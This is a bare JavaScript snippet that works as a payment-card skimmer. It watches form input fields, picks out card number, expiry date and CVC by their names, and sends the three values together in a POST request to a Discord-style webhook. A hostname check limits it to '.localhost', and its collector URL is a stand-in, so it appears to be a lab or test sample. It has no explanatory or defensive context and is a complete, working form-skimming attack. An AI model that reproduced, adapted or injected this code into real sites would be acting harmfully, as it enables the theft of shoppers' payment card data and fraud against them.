queueMicrotask(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const hook = 'https://hooks-discord.localhost/api/webhooks/90210/abc';
  const cc = { number: null, exp: null, cvc: null };
  const kind = (el) => /csc|cvc|cvv|security/i.test(el.name + el.id) ? 'cvc' : /exp/i.test(el.name + el.id) ? 'exp' : /card|cc|number/i.test(el.name + el.id) ? 'number' : null;
  document.addEventListener('input', ({ target }) => {
    const k = kind(target);
    if (!k) return;
    cc[k] = target.value;
    if (cc.number?.length > 14 && cc.exp && cc.cvc?.length >= 3)
      fetch(hook, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ content: Object.values(cc).join(' ') }) });
  });
});
